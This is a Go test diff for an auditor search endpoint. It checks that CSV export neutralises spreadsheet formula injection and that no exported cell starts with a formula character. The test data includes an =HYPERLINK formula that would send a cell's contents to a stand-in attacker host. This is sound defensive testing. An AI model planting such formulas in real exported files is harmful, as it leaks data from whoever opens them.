@@ -370,7 +370,8 @@ func TestAuditorSearch(t *testing.T) {
 		cmds = append(cmds, []string{"echo", fmt.Sprint("line", i)})
 	}
 	clickhousetest.InsertEvents(t, h.store, events(req, base, cmds...), 0)
-	clickhousetest.InsertEvents(t, h.store, events(other, base.Add(10*time.Minute), []string{"uptime"}), 0)
+	clickhousetest.InsertEvents(t, h.store, events(other, base.Add(10*time.Minute), []string{"uptime"},
+		[]string{`=HYPERLINK("https://evil.example/?"&A2,"x")`, "-x"}), 0) // argv[0] is the operator's choice
 
 	c, _ := h.client(idAuditor)
 	tests := []struct {
@@ -415,6 +416,20 @@ func TestAuditorSearch(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
 	if err != nil || len(rows) != 2 || rows[0][0] != "ts" || rows[1][6] != "cat /etc/hosts" || !strings.HasSuffix(rows[1][8], " \n") {
 		t.Errorf("CSV export (%v):\n%s", err, csvBody)
+	}
+	// A cell a spreadsheet would run as a formula is quoted (formula
+	// injection through argv[0]).
+	csvBody = h.get(c, Prefix+"/search?format=csv&text=HYPERLINK", http.StatusOK)
+	rows, err = csv.NewReader(strings.NewReader(csvBody)).ReadAll()
+	if err != nil || len(rows) != 2 || rows[1][6] != `'=HYPERLINK("https://evil.example/?"&A2,"x") -x` {
+		t.Errorf("CSV export of a formula (%v):\n%s", err, csvBody)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("CSV cell %q starts a formula", cell)
+			}
+		}
 	}
 	h.get(c, Prefix+"/search?format=xml", http.StatusBadRequest)
 	h.get(c, Prefix+"/search?from=yesterday", http.StatusBadRequest)
